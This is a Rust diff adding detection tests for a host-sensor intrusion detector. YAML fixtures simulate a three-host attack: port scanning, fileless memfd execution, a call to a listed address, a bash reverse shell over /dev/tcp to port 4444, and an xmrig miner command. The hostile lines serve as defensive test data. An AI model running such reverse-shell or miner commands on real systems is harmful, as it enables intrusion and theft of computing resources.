@@ -1,11 +1,17 @@
-//! Batches for tests, and the attack that the demonstration runs, as a scenario.
+//! Batches for tests, and an attack over three hosts as their sensors would report it.
 
 use std::sync::Arc;
 
+use proptest::prelude::*;
 use wire::batch::{Batch, Clock, Lane, Position};
-use wire::record::{Exec, Exit, Process, ProcessRef};
-use wire::text::StringTableBuilder;
+use wire::record::{
+    Address, Connection, Coverage, Exec, Exit, Flow, Privilege, Process, ProcessRef, Stdio,
+};
+use wire::text::{StrId, StringTableBuilder};
 
+use super::Detectors;
+use crate::finding::{Finding, FindingSet, Severity};
+use crate::policy::{PolicySet, sample};
 use crate::record::{Host, HostId};
 
 /// Returns a host that is called by its id.
@@ -38,4 +44,237 @@ pub(crate) fn exec_batch(exe: &str, command: &str) -> Batch {
     batch.execs.push(Exec { process: ProcessRef(1), ..Exec::default() });
     batch.strings = strings.finish();
     batch
+}
+
+/// What the scanning host's sensor reports: the scan, its own half of the shell, and daily life.
+const WEB: &str = r#"
+name: web-1
+processes:
+  actor: {exe: /actor, args: actor scan}
+  listener: {exe: /actor, args: actor listen 4444}
+  nginx: {exe: /usr/sbin/nginx, args: nginx}
+  cron: {exe: /bin/sh, args: [sh, -c, "date; ls"]}
+  date: {parent: cron, exe: /usr/bin/date, args: date}
+  dig: {exe: /usr/bin/dig, args: dig}
+  ping: {exe: /usr/bin/ping, args: ping}
+events:
+  - {exec: cron, stdio: [pipe]}
+  - {exec: date, stdio: [pipe]}
+  - {flow: nginx, direction: incoming, local: "10.77.0.11:80", remote: "10.77.0.12:4{n}", n: 1000-1100, sent: SYN ACK FIN, received: SYN ACK FIN, packets: 6, after_ms: 10}
+  - {flow: dig, protocol: udp, direction: outgoing, local: "10.77.0.11:4{n}", remote: "203.0.113.66:53", n: 2000-2060, sent: any, received: any, after_ms: 10}
+  - {flow: ping, protocol: icmp, direction: outgoing, local: "[fd77::11]:128", remote: "[fd77::13]:0", sent: any}
+  - {flow: "-", protocol: icmp, local: "[fd77::11]:129", remote: "[fd77::13]:0", received: any}
+  - {flow: actor, direction: outgoing, local: "10.77.0.11:40{n}", remote: "10.77.0.12:{n}", n: 100-250, sent: SYN, received: RST ACK, after_ms: 1}
+  - {connect_failed: actor, local: "10.77.0.11:40{n}", remote: "10.77.0.12:{n}", n: 100-250}
+  - {flow: "-", direction: outgoing, local: "10.77.0.11:40{n}", remote: "10.77.0.13:{n}", n: 100-250, sent: SYN, received: RST ACK, after_ms: 1}
+  - {connect_failed: actor, local: "10.77.0.11:40{n}", remote: "10.77.0.13:{n}", n: 100-250}
+  - {accept: listener, local: "10.77.0.11:4444", remote: "10.77.0.12:45678"}
+"#;
+
+/// What the attacked host's sensor reports.
+const APP: &str = r#"
+name: app-1
+processes:
+  outer: {exe: /usr/bin/bash, args: [bash, -c, "bash -i >& /dev/tcp/10.77.0.11/4444 0>&1"]}
+  shell: {parent: outer, exe: /usr/bin/bash, args: bash -i}
+  id: {parent: shell, exe: /usr/bin/id, args: id}
+  actor: {parent: shell, exe: /actor, args: actor memfd}
+  hidden: {parent: actor, exe: "/memfd:payload", args: payload, flags: [memfd]}
+  miner: {parent: shell, exe: /tmp/xmrig, args: xmrig -o stratum+tcp://pool.example:3333 -u WALLET}
+  caller: {parent: shell, exe: /actor, args: actor call 203.0.113.66 443}
+  client: {exe: /usr/bin/curl, args: curl http://10.77.0.11/}
+events:
+  - {flow: client, direction: outgoing, local: "10.77.0.12:4{n}", remote: "10.77.0.11:80", n: 1000-1100, sent: SYN ACK FIN, received: SYN ACK FIN, packets: 6, after_ms: 10}
+  - {flow: "-", direction: incoming, local: "10.77.0.12:{n}", remote: "10.77.0.11:40{n}", n: 100-250, sent: RST ACK, received: SYN, after_ms: 1}
+  - {exec: outer, stdio: ["null"], after_ms: 100}
+  - {connect: outer, local: "10.77.0.12:45678", remote: "10.77.0.11:4444", after_ms: 5}
+  - {exec: shell, stdio: ["socket:45678>10.77.0.11:4444"], after_ms: 1}
+  - {exec: id, stdio: ["socket:45678>10.77.0.11:4444"], after_ms: 200}
+  - {exec: actor, stdio: ["socket:45678>10.77.0.11:4444"], after_ms: 200}
+  - {exec: hidden, after_ms: 10}
+  - {exec: miner, after_ms: 200}
+  - {exec: caller, after_ms: 200}
+  - {flow: "-", direction: outgoing, local: "10.77.0.12:45999", remote: "203.0.113.66:443", sent: SYN ACK, received: SYN ACK}
+  - {connect: caller, local: "10.77.0.12:45999", remote: "203.0.113.66:443", after_ms: 3}
+  - {flow: "-", local: "10.77.0.12:45999", remote: "203.0.113.66:443", sent: ACK FIN, received: ACK FIN, after_ms: 900}
+"#;
+
+/// What the third host's sensor reports: it is scanned, and its daily life goes on.
+const DB: &str = r#"
+name: db-1
+processes:
+  postgres: {exe: /usr/lib/postgresql/bin/postgres, args: postgres}
+events:
+  - {flow: postgres, direction: incoming, local: "10.77.0.13:5432", remote: "10.77.0.12:4{n}", n: 1000-1100, sent: SYN ACK FIN, received: SYN ACK FIN, packets: 6, after_ms: 10}
+  - {flow: "-", direction: incoming, local: "10.77.0.13:{n}", remote: "10.77.0.11:40{n}", n: 100-250, sent: RST ACK, received: SYN, after_ms: 1}
+"#;
+
+fn findings(order: &[&str]) -> FindingSet {
+    let mut detectors = Detectors::new(&PolicySet::embedded());
+    let mut findings = FindingSet::default();
+    for text in order {
+        let (name, batches) = sample::batches_of(text).unwrap();
+        for batch in batches {
+            batch.check().unwrap();
+            for signal in detectors.batch(&batch, &host(&name)) {
+                findings.merge(signal);
+            }
+        }
+    }
+    findings
+}
+
+fn found<'a>(findings: &'a FindingSet, kind: &str, host: &str) -> Vec<&'a Finding> {
+    findings.iter().filter(|f| f.kind.name == kind && f.host.name == host).collect()
+}
+
+#[test]
+fn the_attack_is_found_step_by_step_and_nothing_else() {
+    let findings = findings(&[WEB, APP, DB]);
+    let mut wanted = 0;
+    for (kind, host, exe) in [
+        ("Discovery:Host/PortScan", "web-1", Some("/actor")),
+        ("Discovery:Host/PortProbed", "app-1", None),
+        ("Discovery:Host/PortProbed", "db-1", None),
+        ("Execution:Host/ReverseShell", "app-1", Some("/usr/bin/bash")),
+        ("DefenseEvasion:Host/FilelessExecution", "app-1", Some("/memfd:payload")),
+        ("Impact:Host/CryptoMinerExecuted", "app-1", Some("/tmp/xmrig")),
+        ("CommandAndControl:Host/ListedAddress", "app-1", Some("/actor")),
+    ] {
+        let of_kind = found(&findings, kind, host);
+        let exes: Vec<_> =
+            of_kind.iter().map(|f| f.process.as_ref().map(|p| p.executable())).collect();
+        assert_eq!(exes, [exe.map(str::to_owned)], "{kind} on {host}");
+        wanted += 1;
+    }
+    let all: Vec<_> = findings.iter().map(|f| (&f.kind.name, &f.host.name, &f.title)).collect();
+    assert_eq!(all.len(), wanted, "{all:#?}");
+}
+
+#[test]
+fn findings_carry_what_an_analyst_needs() {
+    let findings = findings(&[WEB, APP, DB]);
+    let scan = found(&findings, "Discovery:Host/PortScan", "web-1")[0];
+    let actors: Vec<&str> = scan.actors.iter().map(|actor| actor.value.as_str()).collect();
+    assert_eq!(actors, ["/actor", "10.77.0.12", "10.77.0.13"]);
+    assert_eq!((scan.count, scan.evidence.len()), (scan.count.clamp(270, 330), 2));
+    let shell = found(&findings, "Execution:Host/ReverseShell", "app-1")[0];
+    assert_eq!(shell.title, "Reverse shell from bash to 10.77.0.11:4444 on app-1");
+    assert_eq!(shell.process.as_ref().unwrap().lineage().count(), 1);
+    assert!(shell.severity >= Severity::new(7.0));
+    assert_eq!(shell.kind.guardduty.as_deref(), Some("Execution:Runtime/ReverseShell"));
+    let listed = found(&findings, "CommandAndControl:Host/ListedAddress", "app-1")[0];
+    assert_eq!(listed.title, "actor on app-1 contacted the listed address 203.0.113.66");
+    assert_eq!(listed.process.as_ref().unwrap().lineage().count(), 2);
+    for finding in findings.iter() {
+        assert!(!finding.evidence.is_empty() && finding.policy.file.ends_with(".yml"));
+    }
+}
+
+#[test]
+fn the_order_of_hosts_and_a_second_run_change_nothing() {
+    let text = |order: &[&str]| format!("{:#?}", findings(order).iter().collect::<Vec<_>>());
+    let once = text(&[WEB, APP, DB]);
+    assert_eq!(text(&[WEB, APP, DB]), once);
+    assert_eq!(text(&[DB, APP, WEB]), once);
+}
+
+fn any_ends() -> impl Strategy<Value = (Address, u16, u16)> {
+    let address = prop_oneof![
+        any::<[u8; 16]>(),
+        (0u8..4).prop_map(|last| {
+            let mut bytes = [0; 16];
+            (bytes[10], bytes[11], bytes[12], bytes[15]) = (0xff, 0xff, 10, last);
+            bytes
+        }),
+        Just([0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 203, 0, 113, 66]),
+    ];
+    (address.prop_map(Address), any::<u16>(), prop_oneof![Just(443), any::<u16>()])
+}
+
+prop_compose! {
+    /// A batch of any records over a few processes; only its indexes are in range.
+    fn any_batch()(
+        strings in proptest::collection::vec(proptest::collection::vec(any::<u8>(), 0..20), 1..6),
+        processes in proptest::collection::vec((any::<u32>(), 0u32..6, any::<[u32; 3]>(), any::<u32>()), 0..6),
+        execs in proptest::collection::vec((any::<u64>(), any::<u32>(), any_ends(), 0u8..8), 0..8),
+        flows in proptest::collection::vec(
+            (any::<u64>(), any::<u32>(), any_ends(), any::<[u8; 5]>(), any::<[u64; 2]>()), 0..40),
+        connections in proptest::collection::vec((any::<u64>(), any::<u32>(), any_ends(), 0u8..8), 0..20),
+        other in proptest::collection::vec((any::<u64>(), any::<u32>(), 0u8..3), 0..8),
+    ) -> Batch {
+        let mut batch = empty();
+        let mut table = StringTableBuilder::default();
+        let known = [&b"/bin/bash"[..], b"bash\0-i\0", b"/usr/bin/runc", b"/memfd:x"];
+        for string in strings.iter().map(Vec::as_slice).chain(known) {
+            table.add(string).unwrap();
+        }
+        batch.strings = table.finish();
+        let count = batch.strings.len() as u32 + 1;
+        for (at, (pid, parent, texts, flags)) in processes.into_iter().enumerate() {
+            let [exe, args, user] = texts.map(|text| StrId(text % count));
+            let parent = ProcessRef(parent % (at as u32 + 1));
+            let process = Process { pid, parent, exe, args, user, flags, ..Process::default() };
+            batch.processes.push(process);
+        }
+        let count_of_processes = batch.processes.len() as u32 + 1;
+        let process = |number: u32| ProcessRef(number % count_of_processes);
+        for (time_ns, number, (remote, local_port, remote_port), kind) in execs {
+            let stdio = [Stdio { kind, remote, remote_port, local_port }; 3];
+            batch.execs.push(Exec { time_ns, process: process(number), stdio, ..Exec::default() });
+        }
+        for (first_ns, number, (remote, local_port, remote_port), small, packets) in flows {
+            let mut flow = Flow { first_ns, process: process(number), remote, ..Flow::default() };
+            (flow.local_port, flow.remote_port) = (local_port, remote_port);
+            flow.protocol = [6, 6, 17, 1, 58, small[0]][small[0] as usize % 6];
+            (flow.direction, flow.detail) = (small[1] % 4, small[2] & small[3] & 3);
+            (flow.ingress.tcp_flags, flow.egress.tcp_flags) = (small[3], small[4]);
+            (flow.ingress.packets, flow.egress.packets) = (packets[0] % 3, packets[1]);
+            (flow.ingress.bytes, flow.egress.bytes) = (packets[1], packets[0]);
+            batch.flows.push(flow);
+        }
+        for (time_ns, number, (remote, local_port, remote_port), event) in connections {
+            let (process, protocol, local) = (process(number), 6, remote);
+            batch.connections.push(Connection {
+                time_ns, process, event, protocol, local, remote, local_port, remote_port,
+            });
+        }
+        for (time_ns, number, kind) in other {
+            let process = process(number);
+            match kind {
+                0 => batch.exits.push(Exit { time_ns, process, code: 0 }),
+                1 => batch.privileges.push(Privilege {
+                    time_ns, process, action: kind, target: StrId(number % count),
+                }),
+                _ => batch.coverage = Some(Coverage { end_ns: time_ns, ..Coverage::default() }),
+            }
+        }
+        batch
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(200))]
+
+    #[test]
+    fn any_records_are_looked_at_without_panic_and_always_alike(
+        batches in proptest::collection::vec(any_batch(), 1..6),
+        now_ns in any::<u64>(),
+    ) {
+        let set = PolicySet::embedded();
+        let run = || {
+            let mut detectors = Detectors::new(&set);
+            let mut findings = FindingSet::default();
+            for batch in &batches {
+                batch.check().unwrap();
+                for signal in detectors.batch(batch, &host("h")) {
+                    findings.merge(signal);
+                }
+            }
+            detectors.tick(now_ns).into_iter().for_each(|signal| drop(findings.merge(signal)));
+            assert!(detectors.stats().iter().all(|stats| stats.panics == 0));
+            format!("{:?}", findings.iter().collect::<Vec<_>>())
+        };
+        prop_assert_eq!(run(), run());
+    }
 }
